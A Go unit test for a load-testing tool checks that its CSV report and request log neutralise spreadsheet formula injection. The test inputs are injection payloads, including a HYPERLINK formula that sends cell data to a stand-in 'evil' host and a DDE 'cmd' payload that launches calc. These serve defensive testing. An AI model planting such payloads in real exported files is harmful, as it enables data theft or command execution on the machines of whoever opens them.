package loadtest_test

import (
	"bytes"
	"encoding/csv"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"

	"github.com/benchgate/benchgate/loadtest"
	"github.com/benchgate/benchgate/scenario"
)

// TestCSVNeutralisesFormulas: a run name, a step name, a method and a
// URL that would be formulas in a spreadsheet are written with a leading
// single quote and quoted, in WriteCSV and in LogRequestsCSV; numbers
// stay bare.
func TestCSVNeutralisesFormulas(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { w.WriteHeader(500) }))
	t.Cleanup(srv.Close)
	var log bytes.Buffer
	run := scenario.Run(`=HYPERLINK("http://evil/?"&A1,"x")`,
		scenario.Get("/a").Named("+cmd|' /C calc'!A0"),
		scenario.Request("-SUM", "/b").Named("@SUM(1+1)"),
		scenario.Get("/c").Named("\tx"),
		scenario.Get("/d").Named(" ＝1+1"),
	).Repeat(2)
	report := execute(t, loadtest.Runs(run), loadtest.BaseURL(srv.URL), loadtest.LogRequestsCSV(&log))
	var sum bytes.Buffer
	if err := report.WriteCSV(&sum); err != nil {
		t.Fatal(err)
	}
	for name, out := range map[string][]byte{"WriteCSV": sum.Bytes(), "LogRequestsCSV": log.Bytes()} {
		if bytes.Contains(out, []byte("\n=")) || bytes.Contains(out, []byte(",=")) || bytes.Contains(out, []byte(`"=`)) {
			t.Errorf("%s: a cell starts with '=':\n%s", name, out)
		}
		rows, err := csv.NewReader(bytes.NewReader(out)).ReadAll()
		if err != nil || len(rows) < 5 {
			t.Fatalf("%s: %d rows, %v:\n%s", name, len(rows), err, out)
		}
		quoted := 0
		for _, row := range rows[1:] {
			for _, cell := range row {
				if _, err := strconv.ParseFloat(cell, 64); err == nil || cell == "" || cell == "true" || cell == "false" {
					continue
				}
				if strings.HasPrefix(cell, "'") {
					quoted++
				}
				if c := strings.TrimLeft(cell, " \t\r\n"); strings.ContainsAny(c[:1], "=+-@") || strings.HasPrefix(c, "＝") || cell[0] == '\t' {
					t.Errorf("%s: cell %q would be a formula", name, cell)
				}
			}
		}
		if quoted == 0 {
			t.Errorf("%s: nothing was neutralised:\n%s", name, out)
		}
	}
	rows, _ := csv.NewReader(bytes.NewReader(sum.Bytes())).ReadAll()
	if rows[0][0] != "run" || rows[1][0] != `'=HYPERLINK("http://evil/?"&A1,"x")` || rows[2][1] != "'+cmd|' /C calc'!A0" ||
		rows[3][1] != "'@SUM(1+1)" || rows[4][1] != "'\tx" || rows[5][1] != "' ＝1+1" {
		t.Errorf("rows %q", rows)
	}
	if !strings.HasPrefix(sum.String(), "run,step,configured,") {
		t.Errorf("the header changed: %q", strings.SplitN(sum.String(), "\n", 2)[0])
	}
}
